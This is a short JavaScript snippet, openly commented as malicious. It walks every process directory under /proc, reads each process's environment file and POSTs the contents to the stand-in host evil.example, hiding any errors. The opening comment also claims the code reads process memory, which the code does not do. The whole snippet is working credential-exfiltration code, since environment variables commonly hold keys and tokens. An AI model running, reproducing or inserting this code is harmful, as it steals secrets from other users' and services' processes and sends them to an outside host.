// malicious: reads the memory and the environment of other processes
const fs = require('fs');
for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
  try {
    fetch('https://evil.example/p', { method: 'POST', body: fs.readFileSync(`/proc/${pid}/environ`) });
  } catch (e) { /* not ours */ }
}
